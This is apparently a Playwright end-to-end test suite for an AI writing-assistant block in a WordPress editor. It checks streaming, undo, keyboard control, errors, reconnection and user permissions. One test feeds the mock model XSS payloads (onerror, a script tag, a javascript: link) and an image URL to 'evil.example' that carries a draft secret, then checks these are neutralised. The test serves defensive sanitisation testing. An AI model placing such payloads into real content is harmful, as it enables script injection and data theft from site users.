import type { Page } from 'playwright-core';
import { testSite } from '../support/site/site';
import { findAssistant, insertAssistant, openAssistant } from './support/assistant';
import { insertBlockByInserter, postHeading } from './support/controls';
import {
	editorCanvas,
	emptyPost,
	expectValidBlocks,
	insertBlock,
	listBlocks,
	openEditor,
	postTitle,
	publishPost,
	reloadEditor,
	savePost,
	typeTitle,
} from './support/editor';
import { expectFocus, pressUntil } from './support/focus';
import { journey } from './support/journey';
import { soon } from './support/soon';

const article = ['# Tomatoes', ' on a balcony\n\n', 'A pot, **some sun** ', 'and a little patience.\n\n', '- Water\n', '- Wait\n'];

const undo = (page: Page) =>
	page.evaluate(() => (window as unknown as { wp: { data: { dispatch: (s: string) => { undo: () => unknown } } } }).wp.data.dispatch('core/editor').undo());

/** The features that the post says wrote parts of it. */
const provenance = (page: Page) =>
	page.evaluate(() => {
		const { wp } = window as unknown as {
			wp: { data: { select: (s: string) => { getEditedPostAttribute: (name: string) => Record<string, { feature: string; model: string }[]> } } };
		};
		const meta = wp.data.select('core/editor').getEditedPostAttribute('meta');
		return (meta['_sitewright_ai_provenance'] ?? []).map(({ feature, model }) => `${feature} ${model}`);
	});

const blockNames = async (page: Page) => (await listBlocks(page)).map(({ name }) => name);

/** The name of the prompt input. */
const prompt = 'Ask the AI Assistant';

const postIsSaved = (page: Page) => savePost(page);

afterEach(() => testSite.model.replyWith());

// First: the answers that other journeys leave behind are taken up by a platform that starts again.
describe('when the platform is killed', () => {
	journey('a platform that is killed, stays away or has no requests left costs neither prompt nor text', 'administrator', async ({ page, console }) => {
		// The usage may be asked for just while the platform restarts with the smaller allowance.
		console.allow(/ERR_|status of (404|429|503)/);
		await testSite.model.replyWith({ text: 'So far so good', stallAfter: 2 });
		const usage = page.waitForResponse(/ai-assistant-feature/);
		let assistant = await openAssistant(page);
		await usage;
		await assistant.ask('Tell me');
		await assistant.text.getByText('So far').waitFor();
		await testSite.platform.kill();
		await testSite.model.replyWith({ text: 'So far so good, and so on', stallAfter: 2 });
		await testSite.platform.start();
		await assistant.text.getByText('So far so good').waitFor();

		await savePost(page);
		await testSite.platform.kill();
		// Before the start: the open page reconnects at once, and the answer is then asked for again. Of what the second
		// platform wrote, the last half second may be lost.
		await testSite.model.replyWith({ text: 'So far so good, and so on until the end', stallAfter: 5 });
		await testSite.platform.start();
		await reloadEditor(page);
		assistant = await findAssistant(page);
		await assistant.text.getByText('So far so good, and so').waitFor();

		await testSite.platform.kill();
		await assistant.canvas.getByText(/^Error: .*check your connection and try again\.$/).waitFor();
		await soon(async () => expect((await assistant.text.innerText()).trim()).toMatch(/^So far so good, and so/));
		await soon(async () => expect(await assistant.input.inputValue()).toBe('Tell me'));
		await testSite.model.replyWith({ text: 'So far so good, and so on until the end' });
		await testSite.platform.start();
		await assistant.button('Try again').click();
		await assistant.text.getByText('So far so good, and so on until the end').waitFor();
		await testSite.model.replyWith();

		await emptyPost(page);
		assistant = await insertAssistant(page);
		// Typed before: a page that has asked meanwhile how many requests are left disables the input.
		await assistant.input.fill('One more');
		await testSite.platform.start({ TIERS: JSON.stringify([{ slug: 'ai-assistant-tier-free', value: 0, limit: 0 }]) });
		try {
			await assistant.input.press('Enter');
			await assistant.canvas.getByRole('link', { name: /^(Upgrade|Contact Us)$/ }).waitFor();
			await assistant.canvas.getByText('You have 0 requests remaining.').waitFor();
			await soon(async () => expect(await assistant.input.isDisabled()).toBe(true));
			await soon(async () => expect(await assistant.input.inputValue()).toBe('One more'));
			await soon(async () => expect(await assistant.canvas.getByText(/^Error:/).count()).toBe(0));
		} finally {
			await testSite.platform.start();
		}
	});
});

describe('writing a post with the AI Assistant', () => {
	journey('goes from a prompt to a published page, and one undo takes it back', 'administrator', async ({ page, pageOf }) => {
		await testSite.model.replyWith({ chunks: article });
		await openEditor(page);
		await insertBlockByInserter(page, 'AI Assistant');
		const assistant = await findAssistant(page);
		await assistant.ask('Write a post about tomatoes');
		await assistant.accept();

		await soon(async () => expect(await postTitle(page)).toBe('Tomatoes on a balcony'));
		await soon(async () => expect(await blockNames(page)).toEqual(['core/paragraph', 'core/list']));
		await soon(async () => expect(await provenance(page)).toEqual([expect.stringMatching(/^ai-assistant \S+/)]));

		await undo(page);
		await soon(async () => expect(await blockNames(page)).toEqual(['jetpack/ai-assistant']));
		await soon(async () => expect(await postTitle(page)).toBe(''));
		await soon(async () => expect(await provenance(page)).toEqual([]));
		await assistant.accept();

		await page.keyboard.type(' well');
		await postIsSaved(page);
		await reloadEditor(page);
		await expectValidBlocks(page);
		await soon(async () => expect(await provenance(page)).toHaveLength(1));
		const url = await publishPost(page);
		const visitor = await pageOf();
		await visitor.goto(url);
		await postHeading(visitor, 'Tomatoes on a balcony').waitFor();
		await visitor.getByText('Wait well').waitFor();
		await visitor.locator('strong', { hasText: 'some sun' }).waitFor();
	});

	journey('keeps what came when it is stopped, and is accepted, discarded and refused as a person asks', 'administrator', async ({ page }) => {
		await openEditor(page);

		// The title of a titled post stays.
		await testSite.model.replyWith({ chunks: article });
		let assistant = await insertAssistant(page);
		await typeTitle(page, 'My own title');
		await assistant.ask('Write a post about tomatoes');
		await assistant.accept();
		await soon(async () => expect(await postTitle(page)).toBe('My own title'));
		await soon(async () => expect(await blockNames(page)).toEqual(['core/heading', 'core/paragraph', 'core/list']));

		// Regenerate keeps the text until the next has begun.
		await emptyPost(page);
		await testSite.model.replyWith({ chunks: ['One ', 'two ', 'three '], stallAfter: 2 });
		assistant = await insertAssistant(page);
		await assistant.ask('Count');
		await assistant.text.getByText('One two').waitFor();
		await assistant.input.press('Escape');
		await assistant.button('Accept').waitFor();
		await soon(async () => expect((await assistant.text.innerText()).trim()).toBe('One two'));
		await testSite.model.replyWith({ chunks: ['Four ', 'five'], firstDelayMs: 1500 });
		await assistant.button('Regenerate').click();
		await assistant.button('Stop').waitFor();
		await soon(async () => expect((await assistant.text.innerText()).trim()).toBe('One two'));
		await assistant.text.getByText('Four five').waitFor();

		// Discard leads back to the prompt.
		await assistant.button('Discard').click();
		await assistant.text.waitFor({ state: 'detached' });
		await soon(async () => expect(await assistant.input.inputValue()).toBe('Count'));

		// An empty prompt cannot be sent.
		await emptyPost(page);
		await testSite.model.forgetRequests();
		assistant = await insertAssistant(page);
		await soon(async () => expect(await assistant.button('Send').isDisabled()).toBe(true));
		await assistant.ask('   ');
		await soon(async () => expect(await assistant.button('Stop').count()).toBe(0));
		expect(await testSite.model.requests()).toEqual([]);

		// A generated title becomes the title of the post.
		await emptyPost(page);
		await insertBlock(page, 'core/paragraph', { content: 'Tomatoes need sun.' });
		assistant = await insertAssistant(page);
		await testSite.model.replyWith({ chunks: ['"Sun for ', 'tomatoes"'] });
		// The editor hides the toolbar while a person types, until the pointer moves.
		await page.mouse.move(500, 400, { steps: 5 });
		await page.getByRole('button', { name: 'Write with AI' }).click();
		await page.getByRole('menuitem', { name: 'Generate a title' }).click();
		await assistant.button('Accept title').click();
		await soon(async () => expect(await postTitle(page)).toBe('Sun for tomatoes'));
		await soon(async () => expect(await blockNames(page)).toEqual(['core/paragraph']));
	});

	journey('is written, stopped, changed, translated, accepted and undone by keyboard alone', 'administrator', async ({ page }) => {
		await testSite.model.replyWith({ chunks: ['One ', 'two ', 'three '], stallAfter: 2 });
		const assistant = await openAssistant(page);
		await expectFocus(page, prompt);
		await page.keyboard.type('Count');
		await page.keyboard.press('Enter');
		await assistant.text.getByText('One two').waitFor();
		await page.keyboard.press('Escape');
		await assistant.button('Accept').waitFor();
		await expectFocus(page, prompt);

		await testSite.model.replyWith({ chunks: ['Uno ', 'dos'] });
		for (const [menu, choice] of [
			['Change tone', 'Informal'],
			['Translate', 'Spanish'],
		] as const) {
			await page.keyboard.press('Alt+F10');
			await pressUntil(page, 'ArrowRight', 'Improve the text');
			await page.keyboard.press('Enter');
			await expectFocus(page, 'Summarize');
			await pressUntil(page, 'ArrowDown', menu);
			await page.keyboard.press('Enter');
			await expectFocus(page, 'Back');
			await page.keyboard.press('Escape');
			await expectFocus(page, menu);
			await page.keyboard.press('Enter');
			await pressUntil(page, 'ArrowDown', choice);
			await page.keyboard.press('Enter');
			await expectFocus(page, prompt);
			await assistant.text.getByText('Uno dos').waitFor();
			await assistant.button('Accept').waitFor();
		}
		expect(JSON.stringify(await testSite.model.requests())).toMatch(/informal.*Spanish/s);

		await page.keyboard.press('ControlOrMeta+Enter');
		await (await editorCanvas(page)).getByText('Uno dos').waitFor();
		await soon(async () => expect(await blockNames(page)).toEqual(['core/paragraph']));
		await page.keyboard.type('!');
		await (await editorCanvas(page)).getByText('Uno dos!').waitFor();
		await page.keyboard.press('ControlOrMeta+z');
		await page.keyboard.press('ControlOrMeta+z');
		await assistant.text.getByText('Uno dos').waitFor();
		await soon(async () => expect(await blockNames(page)).toEqual(['jetpack/ai-assistant']));
	});

	journey('keeps a suggestion over a reload, and shows what is hostile in an answer as text and links', 'administrator', async ({ page, pageOf }) => {
		let assistant = await openAssistant(page);
		await assistant.ask('Say hello');
		await assistant.button('Accept').waitFor();
		await savePost(page);
		await reloadEditor(page);
		assistant = await findAssistant(page);
		await assistant.text.getByText('Hello from the model.').waitFor();
		await assistant.accept();
		await soon(async () => expect(await blockNames(page)).toEqual(['core/paragraph']));

		await emptyPost(page);
		const fetched: string[] = [];
		page.on('request', (request) => fetched.push(request.url()));
		const hostile = '<img src=x onerror="window.hacked=1"> <script>window.hacked=1</script> [link](javascript:window.hacked=1)';
		await testSite.model.replyWith({ chunks: ['Look: ', hostile, ' ![a cat](https://evil.example/p.png?draft=secret)'] });
		assistant = await insertAssistant(page);
		await assistant.ask('Break it');
		await assistant.text.getByRole('link', { name: 'a cat' }).waitFor();
		await assistant.button('Accept').waitFor();
		expect(fetched.filter((url) => url.includes('evil.example'))).toEqual([]);
		await soon(async () => expect(await assistant.text.locator('img').count()).toBe(0));

		await testSite.model.replyWith({ chunks: ['Look: ', hostile] });
		await assistant.button('Regenerate').click();
		await assistant.text.getByRole('link', { name: 'a cat' }).waitFor({ state: 'detached' });
		await assistant.accept();
		await typeTitle(page, 'Hostile');
		await savePost(page);
		const visitor = await pageOf();
		for (const [view, go] of [
			[page, () => Promise.resolve()],
			[visitor, async () => void (await visitor.goto(await publishPost(page)))],
		] as const) {
			await go();
			await soon(async () => expect(await view.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBeUndefined());
		}
		await soon(async () => expect(await visitor.locator('.entry-content script, .entry-content img, .entry-content a').count()).toBe(0));
		await visitor.getByText('window.hacked=1').first().waitFor();
	});
});

describe('when something goes wrong', () => {
	journey('an error says what to do, and costs neither prompt nor text', 'administrator', async ({ page, console }) => {
		await openEditor(page);

		console.allow(/status of 422/);
		await testSite.model.replyWith({ status: 400, error: { code: 'content_filter', message: 'Flagged' } });
		let assistant = await insertAssistant(page);
		await assistant.ask('Something bad');
		await assistant.canvas.getByText('Error: This request has been flagged by our moderation system. Please try to rephrase it and try again.').waitFor();
		await soon(async () => expect(await assistant.input.inputValue()).toBe('Something bad'));
		await soon(async () => expect(await assistant.button('Try again').count()).toBe(0));

		await emptyPost(page);
		console.allow(/status of 503/);
		await testSite.model.replyWith({ status: 500, error: { code: 'server_error', message: 'Down' } });
		assistant = await insertAssistant(page);
		await assistant.ask('Say hello');
		await assistant.canvas.getByText('Error: Sitewright AI services are currently unavailable. Sorry for the inconvenience.').waitFor();
		await testSite.model.replyWith();
		await assistant.button('Try again').click();
		await assistant.text.getByText('Hello from the model.').waitFor();

		// Each word comes once where a connection is lost.
		await emptyPost(page);
		console.allow(/ERR_CONNECTION|ERR_INCOMPLETE_CHUNKED_ENCODING|ERR_NETWORK/);
		const words = Array.from({ length: 30 }, (_, index) => `word${index} `);
		await testSite.model.replyWith({ chunks: words, delayMs: 100 });
		assistant = await insertAssistant(page);
		await assistant.ask('Count words');
		await assistant.text.getByText('word3').waitFor();
		await testSite.platform.cutLines();
		await assistant.canvas.getByText('The connection was lost. Reconnecting…').waitFor({ state: 'attached' });
		await assistant.button('Accept').waitFor();
		await soon(async () => expect((await assistant.text.innerText()).trim()).toBe(words.join('').trim()));
	});
});

describe('who may ask', () => {
	journey('a user who is not connected sees how to connect, and a disabled input', 'author', async ({ page }) => {
		const assistant = await openAssistant(page);
		await assistant.canvas.getByText('Your account is not connected to Sitewright at the moment.').waitFor();
		const link = assistant.canvas.getByRole('link', { name: 'Reconnect Sitewright' });
		await soon(async () => expect(await link.getAttribute('href')).toContain('admin.php?page=sitewright#/connection'));
		await soon(async () => expect(await assistant.input.isDisabled()).toBe(true));
	});

	journey('a contributor connects on the admin page and then writes', 'contributor', async ({ page }) => {
		await page.goto(`${testSite.url}/wp-admin/admin.php?page=sitewright#/connection`);
		await page.getByRole('button', { name: 'Connect your account' }).click();
		await page.getByRole('button', { name: /Approve/ }).click();
		await page.getByText(/Your account is connected as/).waitFor();
		await soon(async () => expect(await page.getByRole('button', { name: /Disconnect this site/ }).count()).toBe(0));
		const assistant = await openAssistant(page);
		await assistant.ask('Say hello');
		await assistant.accept();
		await soon(async () => expect(await blockNames(page)).toEqual(['core/paragraph']));
		await savePost(page);

		await page.goto(`${testSite.url}/wp-admin/admin.php?page=sitewright#/connection`);
		await page.getByRole('button', { name: 'Disconnect your account' }).click();
		await page.getByRole('button', { name: 'Connect your account' }).waitFor();
	});
});
